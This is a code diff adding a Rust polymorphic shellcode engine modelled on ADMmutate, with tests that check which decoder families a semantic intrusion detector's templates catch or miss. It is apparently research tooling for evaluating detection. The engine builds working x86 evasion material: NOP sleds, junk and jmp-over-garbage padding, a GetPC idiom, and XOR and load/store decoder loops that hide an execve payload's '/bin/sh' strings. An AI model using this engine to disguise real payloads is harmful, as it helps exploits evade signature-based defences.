@@ -1,0 +1,370 @@
+//! An ADMmutate-like polymorphic shellcode engine.
+//!
+//! Reproduces the structure the paper observed in ADMmutate 0.8.4 (§5.2):
+//!
+//! * NOP-like sled generation over a pool of one-byte instructions,
+//! * garbage (junk) instruction insertion,
+//! * equivalent instruction replacement (inc/add/lea/sub-negative),
+//! * out-of-order sequencing via `jmp` over garbage bytes,
+//! * register reassignment on every generation,
+//! * **two distinct decoder families** — the plain XOR loop, and "a
+//!   decoding scheme involving a sequence of mov, or, and, and not
+//!   instructions that perform operations on a single memory location and
+//!   register pair". Table 2's 68%→100% result hinges on this split.
+
+use crate::asm::{Asm, R};
+use rand::Rng;
+
+/// Which decoder family an instance uses.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum DecoderFamily {
+    /// The classic in-place XOR loop (Figure 1 / Figure 2 behaviour).
+    Xor,
+    /// The load/transform/store scheme (Figure 7 behaviour).
+    LoadStore,
+}
+
+/// The engine.
+#[derive(Debug, Clone)]
+pub struct AdmMutate {
+    /// Probability of choosing the XOR family (the paper's observed mix
+    /// yields a 68% first-pass detection rate with the XOR template only).
+    pub xor_weight: f64,
+    /// Sled length range (instructions).
+    pub sled_range: (usize, usize),
+    /// Probability of an out-of-order jmp-over-garbage insertion per site.
+    pub garbage_jmp_prob: f64,
+}
+
+impl Default for AdmMutate {
+    fn default() -> Self {
+        AdmMutate {
+            xor_weight: 0.68,
+            sled_range: (16, 48),
+            garbage_jmp_prob: 0.25,
+        }
+    }
+}
+
+impl AdmMutate {
+    /// Pick a decoder family.
+    pub fn pick_family<G: Rng>(&self, rng: &mut G) -> DecoderFamily {
+        if rng.gen_bool(self.xor_weight) {
+            DecoderFamily::Xor
+        } else {
+            DecoderFamily::LoadStore
+        }
+    }
+
+    /// Generate one polymorphic instance around `inner`: sled + decoder +
+    /// encoded payload. Returns the bytes and the family used.
+    pub fn generate<G: Rng>(&self, rng: &mut G, inner: &[u8]) -> (Vec<u8>, DecoderFamily) {
+        let family = self.pick_family(rng);
+        let bytes = self.generate_family(rng, inner, family);
+        (bytes, family)
+    }
+
+    /// Generate with a forced family (used by tests and Table 2).
+    pub fn generate_family<G: Rng>(
+        &self,
+        rng: &mut G,
+        inner: &[u8],
+        family: DecoderFamily,
+    ) -> Vec<u8> {
+        match family {
+            DecoderFamily::Xor => self.xor_instance(rng, inner),
+            DecoderFamily::LoadStore => self.load_store_instance(rng, inner),
+        }
+    }
+
+    /// Junk padding: NOP-like ops plus optional jmp-over-garbage.
+    fn junk<G: Rng>(&self, a: &mut Asm, rng: &mut G, protect: &[R]) {
+        for _ in 0..rng.gen_range(0..3) {
+            a.nop_like(rng, protect);
+        }
+        if rng.gen_bool(self.garbage_jmp_prob) {
+            let fix = a.jmp_fwd();
+            let n = rng.gen_range(2..6);
+            let garbage: Vec<u8> = (0..n).map(|_| rng.gen()).collect();
+            a.raw(&garbage);
+            a.patch_fwd(fix);
+        }
+    }
+
+    fn xor_instance<G: Rng>(&self, rng: &mut G, inner: &[u8]) -> Vec<u8> {
+        let key: u8 = rng.gen_range(1..=255);
+        // ECX is reserved for the loop counter.
+        let ptrs: Vec<R> = R::POINTERS.into_iter().filter(|r| *r != R::Ecx).collect();
+        let ptr = ptrs[rng.gen_range(0..ptrs.len())];
+        // key register: a low-byte register different from the pointer and
+        // from ECX (the loop counter).
+        let key_regs: Vec<R> = [R::Eax, R::Edx, R::Ebx]
+            .into_iter()
+            .filter(|r| *r != ptr)
+            .collect();
+        let key_reg = key_regs[rng.gen_range(0..key_regs.len())];
+        let protect = [ptr, key_reg, R::Ecx];
+
+        let mut a = Asm::new();
+        let sled_n = rng.gen_range(self.sled_range.0..=self.sled_range.1);
+        a.sled(rng, sled_n, &protect);
+
+        // Pointer setup: a placeholder stack address, or the classic GetPC
+        // idiom (`call $+0; pop ptr; add ptr, delta`) position-independent
+        // exploits use.
+        if rng.gen_bool(0.3) {
+            a.raw(&[0xe8, 0, 0, 0, 0]); // call $+0
+            a.pop(ptr);
+            a.add_imm8(ptr, rng.gen_range(8..32));
+        } else {
+            a.mov_imm(ptr, 0xbfff_e000 + rng.gen_range(0..0x1000));
+        }
+        self.junk(&mut a, rng, &protect);
+
+        // Counter setup: mov or push/pop.
+        if rng.gen_bool(0.5) {
+            a.push_imm32(inner.len() as u32).pop(R::Ecx);
+        } else {
+            a.mov_imm(R::Ecx, inner.len() as u32);
+        }
+        self.junk(&mut a, rng, &protect);
+
+        // Key materialization: direct immediate xor, or a key register
+        // built directly / by arithmetic / via the stack.
+        let key_in_reg = rng.gen_bool(0.6);
+        if key_in_reg {
+            match rng.gen_range(0..3) {
+                0 => {
+                    a.mov_imm(key_reg, u32::from(key));
+                }
+                1 => {
+                    // split-add chain (the Figure 1(b) obfuscation)
+                    let part: u8 = rng.gen_range(1..=key.max(1));
+                    a.mov_imm(key_reg, u32::from(key.wrapping_sub(part)));
+                    a.add_r8_imm8(key_reg, part);
+                }
+                _ => {
+                    a.push_imm32(u32::from(key)).pop(key_reg);
+                }
+            }
+            self.junk(&mut a, rng, &protect);
+        }
+
+        // The loop body.
+        let body = a.here();
+        if key_in_reg {
+            a.xor_mem_r8(ptr, key_reg);
+        } else {
+            a.xor_mem_imm8(ptr, key);
+        }
+        self.junk(&mut a, rng, &protect);
+        // Equivalent-instruction advance.
+        match rng.gen_range(0..4) {
+            0 => {
+                a.inc(ptr);
+            }
+            1 => {
+                a.add_imm8(ptr, 1);
+            }
+            2 => {
+                a.lea_advance(ptr, 1);
+            }
+            _ => {
+                a.sub_imm8(ptr, -1);
+            }
+        }
+        self.junk(&mut a, rng, &protect);
+        // LOOP or DEC/JNZ back-edge.
+        if rng.gen_bool(0.7) {
+            a.loop_to(body);
+        } else {
+            a.dec(R::Ecx);
+            a.jnz_to(body);
+        }
+
+        let mut out = a.finish();
+        out.extend(inner.iter().map(|b| b ^ key));
+        out
+    }
+
+    fn load_store_instance<G: Rng>(&self, rng: &mut G, inner: &[u8]) -> Vec<u8> {
+        // ECX is reserved for the loop counter.
+        let ptrs: Vec<R> = R::POINTERS.into_iter().filter(|r| *r != R::Ecx).collect();
+        let ptr = ptrs[rng.gen_range(0..ptrs.len())];
+        let works: Vec<R> = [R::Eax, R::Edx, R::Ebx]
+            .into_iter()
+            .filter(|r| *r != ptr)
+            .collect();
+        let work = works[rng.gen_range(0..works.len())];
+        let protect = [ptr, work, R::Ecx];
+
+        let mut a = Asm::new();
+        let sled_n = rng.gen_range(self.sled_range.0..=self.sled_range.1);
+        a.sled(rng, sled_n, &protect);
+        a.mov_imm(ptr, 0xbfff_e000 + rng.gen_range(0..0x1000));
+        a.mov_imm(R::Ecx, inner.len() as u32);
+        self.junk(&mut a, rng, &protect);
+
+        // The transform pipeline: 2–4 of mov/or/and/not/xor on the single
+        // memory location + register pair (paper Figure 7). The payload is
+        // inert, so the pipeline need not be a bijection — we track only
+        // the invertible steps when producing the "encoded" bytes.
+        let key: u8 = rng.gen_range(1..=255);
+        let or_mask: u8 = rng.gen();
+        let and_mask: u8 = rng.gen::<u8>() | 0x0f;
+        let steps = rng.gen_range(2..=4usize);
+
+        let body = a.here();
+        a.load8(work, ptr);
+        let mut invert_not = false;
+        let mut invert_xor = 0u8;
+        // The first transform is always invertible so the encoded payload
+        // never degenerates to plaintext.
+        if rng.gen_bool(0.5) {
+            a.not_r8(work);
+            invert_not = !invert_not;
+        } else {
+            a.xor_r8_imm8(work, key);
+            invert_xor ^= key;
+        }
+        for s in 0..steps {
+            match (s + rng.gen_range(0..2)) % 4 {
+                0 => {
+                    a.or_r8_imm8(work, or_mask);
+                }
+                1 => {
+                    a.and_r8_imm8(work, and_mask);
+                }
+                2 => {
+                    a.not_r8(work);
+                    invert_not = !invert_not;
+                }
+                _ => {
+                    a.xor_r8_imm8(work, key);
+                    invert_xor ^= key;
+                }
+            }
+        }
+        // Guard against a degenerate pipeline (e.g. two xors cancelling):
+        // the encoding must actually change the payload bytes.
+        if !invert_not && invert_xor == 0 {
+            a.not_r8(work);
+            invert_not = true;
+        }
+        a.store8(ptr, work);
+        self.junk(&mut a, rng, &protect);
+        match rng.gen_range(0..3) {
+            0 => {
+                a.inc(ptr);
+            }
+            1 => {
+                a.add_imm8(ptr, 1);
+            }
+            _ => {
+                a.lea_advance(ptr, 1);
+            }
+        }
+        a.loop_to(body);
+
+        let mut out = a.finish();
+        out.extend(inner.iter().map(|b| {
+            let mut v = *b ^ invert_xor;
+            if invert_not {
+                v = !v;
+            }
+            v
+        }));
+        out
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::shellcode;
+    use rand::rngs::StdRng;
+    use rand::SeedableRng;
+    use snids_semantic::{templates, Analyzer};
+
+    fn inner() -> Vec<u8> {
+        let mut rng = StdRng::seed_from_u64(0);
+        shellcode::execve_variant(&mut rng, 0)
+    }
+
+    #[test]
+    fn xor_instances_match_the_xor_template() {
+        let engine = AdmMutate::default();
+        let analyzer = Analyzer::new(templates::xor_only_templates());
+        let payload = inner();
+        for seed in 0..50u64 {
+            let mut rng = StdRng::seed_from_u64(seed);
+            let bytes = engine.generate_family(&mut rng, &payload, DecoderFamily::Xor);
+            assert!(
+                analyzer.detects(&bytes),
+                "xor instance seed {seed} missed ({} bytes)",
+                bytes.len()
+            );
+        }
+    }
+
+    #[test]
+    fn load_store_instances_evade_xor_template_but_not_full_set() {
+        let engine = AdmMutate::default();
+        let xor_only = Analyzer::new(templates::xor_only_templates());
+        let full = Analyzer::default();
+        let payload = inner();
+        for seed in 0..50u64 {
+            let mut rng = StdRng::seed_from_u64(1000 + seed);
+            let bytes = engine.generate_family(&mut rng, &payload, DecoderFamily::LoadStore);
+            assert!(
+                !xor_only.detects(&bytes),
+                "seed {seed}: xor-only template should miss the alt scheme"
+            );
+            assert!(
+                full.detects(&bytes),
+                "seed {seed}: full template set must catch the alt scheme"
+            );
+        }
+    }
+
+    #[test]
+    fn family_mix_approximates_the_weight() {
+        let engine = AdmMutate::default();
+        let mut rng = StdRng::seed_from_u64(42);
+        let n = 1000;
+        let xor = (0..n)
+            .filter(|_| engine.pick_family(&mut rng) == DecoderFamily::Xor)
+            .count();
+        let rate = xor as f64 / n as f64;
+        assert!((rate - 0.68).abs() < 0.06, "rate {rate}");
+    }
+
+    #[test]
+    fn instances_are_polymorphic() {
+        let engine = AdmMutate::default();
+        let payload = inner();
+        let mut rng = StdRng::seed_from_u64(7);
+        let a = engine.generate_family(&mut rng, &payload, DecoderFamily::Xor);
+        let b = engine.generate_family(&mut rng, &payload, DecoderFamily::Xor);
+        assert_ne!(a, b, "two generations must differ");
+        // and the plaintext payload never appears verbatim
+        assert!(
+            !a.windows(8).any(|w| payload.windows(8).next() == Some(w)),
+            "payload prefix leaked in cleartext"
+        );
+    }
+
+    #[test]
+    fn encoded_payload_hides_shell_strings() {
+        let engine = AdmMutate::default();
+        let payload = inner();
+        for seed in 0..20u64 {
+            let mut rng = StdRng::seed_from_u64(seed);
+            let (bytes, _) = engine.generate(&mut rng, &payload);
+            assert!(
+                !bytes.windows(4).any(|w| w == b"//sh" || w == b"/bin"),
+                "seed {seed}: shell strings visible to pattern matching"
+            );
+        }
+    }
+}
